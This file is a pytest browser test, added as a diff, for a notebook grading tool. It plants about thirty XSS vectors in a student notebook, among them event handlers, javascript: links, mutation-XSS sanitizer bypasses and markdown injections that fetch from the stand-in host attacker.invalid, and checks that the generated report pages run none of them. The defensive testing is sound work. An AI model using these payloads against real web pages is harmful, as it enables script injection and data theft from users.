@@ -1,0 +1,176 @@
+"""What a student prints, shows, raises or writes runs in nobody's browser: every page, opened in real Chromium."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+
+import nbformat
+import pytest
+import tiny_course
+from commands import run
+
+from grader.pages import ClassRow, class_page
+
+sync_api = pytest.importorskip("playwright.sync_api")
+CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome") or shutil.which("chromium-browser")
+
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: scripts/browser installs it"),
+    pytest.mark.xdist_group("browser"),
+]
+
+RUN = "fetch('http://attacker.invalid/');window.owned=(window.owned||0)+1"
+VECTORS = [
+    f"<script>{RUN}</script>",
+    f'<img src="x" onerror="{RUN}">',
+    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
+    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></animate></svg>',
+    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\">",
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    '<iframe src="http://attacker.invalid/frame"></iframe>',
+    f'<body onload="{RUN}" onpageshow="{RUN}">',
+    f'<details open ontoggle="{RUN}">x</details>',
+    f'<video autoplay onloadstart="{RUN}"><source src="http://attacker.invalid/video" onerror="{RUN}"></video>',
+    f'<input autofocus onfocus="{RUN}">',
+    f'<div style="animation: x 1s" onanimationstart="{RUN}"></div><style>@keyframes x {{}}</style>',
+    '<style>@import "http://attacker.invalid/css"; body { background: url(http://attacker.invalid/bg) }</style>',
+    '<link rel="stylesheet" href="http://attacker.invalid/css">',
+    '<meta http-equiv="refresh" content="0;url=http://attacker.invalid/meta">',
+    '<base href="http://attacker.invalid/">',
+    '<img src="http://attacker.invalid/pixel"><img srcset="http://attacker.invalid/set 1x">',
+    '<div style="background: url(http://attacker.invalid/style)">x</div>',
+    f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src="http://attacker.invalid/embed">',
+    f'<a href="javascript:{RUN}" autofocus>click</a><a href=" jAvA\tscript:{RUN}">click</a>',
+    f'<form action="javascript:{RUN}"><button>click</button></form>',
+    # What a cleaner and a browser may read differently.
+    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
+    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
+    f'"></pre></td></table></script><script>{RUN}</script>',
+    f"-->]]><script>{RUN}</script>",
+]
+MARKDOWN = [
+    f"[click](javascript:{RUN})",
+    f"[click](<java\nscript:{RUN}>)",
+    f"<javascript:{RUN}>",
+    "![x](http://attacker.invalid/markdown)",
+    f'![x](x "x" onerror="{RUN}")',
+    f'```"><script>{RUN}</script>\nx\n```',
+    f'# <a name="x" onclick="{RUN}">heading</a> "><img src=x onerror={RUN}>',
+    f"$\\href{{javascript:{RUN}}}{{x}}$ $</script><script>{RUN}</script>$",
+    "![x](attachment:x.svg)",
+]
+
+
+def cells() -> list[nbformat.NotebookNode]:
+    """A right answer to one problem, and everything that a student can make a page show."""
+    code = [
+        tiny_course.IMPORTS,
+        f"print({chr(10).join(VECTORS)!r})",
+        f"import sys\nprint({chr(10).join(VECTORS)!r}, file=sys.stderr)",
+        *(f"from IPython.display import HTML\ndisplay(HTML({vector!r}))\nHTML({vector!r})" for vector in VECTORS),
+        f"from IPython.display import *\ndisplay(Javascript({RUN!r}), SVG(data={VECTORS[2]!r}))",
+        f"display(Markdown({VECTORS[0]!r}), Latex({VECTORS[0]!r}), IFrame('http://attacker.invalid/shown', 9, 9))",
+        f"raise type({VECTORS[1]!r}, (Exception,), {{}})({VECTORS[0]!r})",
+        f"# </pre></div>{VECTORS[0]}\n{VECTORS[1]!r}",
+        tiny_course.ANSWERS["centered"],
+        f"def softmax(z):\n    raise type({VECTORS[1]!r}, (Exception,), {{}})({VECTORS[0]!r})",
+        f"class Average:\n    def add(self, value):\n        return type({VECTORS[1]!r}, (), {{}})()",
+        f"def largest(x):\n    return {{{VECTORS[1]!r}: {VECTORS[0]!r}}}",
+    ]
+    text = [nbformat.v4.new_markdown_cell(source) for source in (*VECTORS, *MARKDOWN)]
+    text[-1]["attachments"] = {"x.svg": {"image/svg+xml": "PHN2Zy8+", f'"><script>{RUN}</script>': "AA=="}}
+    raw = nbformat.v4.new_raw_cell(VECTORS[0])
+    return [*(nbformat.v4.new_code_cell(source) for source in code), *text, raw]
+
+
+CLICK = """() => {
+    for (const one of document.querySelectorAll("a, button, summary, input"))
+        if (!/^https?:/.test(one.href || "")) { one.focus && one.focus(); one.click() }
+}"""
+HANDLERS = """() => [...document.querySelectorAll("*")].flatMap((one) =>
+    [...one.attributes].filter((a) => /^on/.test(a.name) || /^\\s*javascript:/i.test(a.value))
+        .map((a) => `<${one.tagName} ${a.name}=${a.value}>`))"""
+
+
+@pytest.fixture(scope="module")
+def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
+    """The pages that a hostile notebook ends up on."""
+    root = tiny_course.write(tmp_path_factory.mktemp("course"))
+    shutil.copy(Path(__file__).parents[2] / "nbgrader_config.py", root)
+    notebook = root / "submitted" / "student01" / "tiny" / "tiny.ipynb"
+    notebook.parent.mkdir(parents=True)
+    nbformat.write(nbformat.v4.new_notebook(cells=cells()), notebook)
+    run(root, "grader", "build")
+    run(root, "grader", "autograde", "tiny")
+    run(root, "nbgrader", "generate_feedback", "tiny")
+    run(root, "grader", "grade", str(notebook), "--html", "report.html")
+    report = json.loads((root / "reports" / "tiny" / "student01.json").read_text())
+    assert report["score"] == 40, "its honest part earns what it should, and nothing else does"
+    told = tuple(check["message"] for problem in report["problems"] for check in problem["checks"])
+    row = ClassRow(VECTORS[1], 1.0, 0.0, (*told, *VECTORS), about=VECTORS[0])
+    (root / "class.html").write_text(class_page(VECTORS[0], 100, [row]), encoding="utf-8")
+    feedback = root / "feedback" / "student01" / "tiny" / "tiny.html"
+    return {"feedback": feedback, "report": root / "report.html", "class": root / "class.html"}
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[sync_api.Browser]:
+    with sync_api.sync_playwright() as playwright:
+        arguments = ["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
+        started = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
+        yield started
+        started.close()
+
+
+def happened(browser: sync_api.Browser, file: Path) -> list[str]:
+    """What a page did that only its student could want, once somebody has opened it and clicked on everything."""
+    page = browser.new_page()
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: (asked.append("attacker: a dialog"), dialog.dismiss()))
+    page.goto(file.as_uri(), wait_until="domcontentloaded")
+    found = []
+    try:
+        page.evaluate(CLICK)
+        page.wait_for_timeout(500)
+        if owned := page.evaluate("window.owned || 0"):
+            found.append(f"student code ran {owned} times")
+        found += page.evaluate(HANDLERS)
+    except sync_api.Error as error:  # "Execution context was destroyed, most likely because of a navigation"
+        found.append(f"it led away: {error}")
+    found += [url for url in asked if "attacker" in url]
+    if not page.url.startswith(file.as_uri()):
+        found.append(f"it led to {page.url}")
+    page.close()
+    return found
+
+
+@pytest.mark.parametrize("name", ["feedback", "report", "class"])
+def test_nothing_of_a_student_s_runs_and_nothing_is_loaded(
+    browser: sync_api.Browser, pages: dict[str, Path], name: str
+) -> None:
+    assert "fetch(" in pages[name].read_text(encoding="utf-8"), "as text, what was tried stands on the page"
+    assert happened(browser, pages[name]) == []
+
+
+def test_on_a_page_that_is_not_made_safe_it_would_run(browser: sync_api.Browser, tmp_path: Path) -> None:
+    """Each of the vectors that need no click: else the test above would prove nothing."""
+    works = 0
+    for number, vector in enumerate(VECTORS):
+        (tmp_path / f"{number}.html").write_text(f"<!doctype html><div>{vector}</div>", encoding="utf-8")
+        works += bool(happened(browser, tmp_path / f"{number}.html"))
+    assert works >= 20
+
+
+@pytest.mark.parametrize("name", ["report", "class"])
+def test_our_own_pages_allow_no_script_at_all(pages: dict[str, Path], name: str) -> None:
+    markup = pages[name].read_text(encoding="utf-8")
+    assert (
+        "Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\"" in markup
+    )
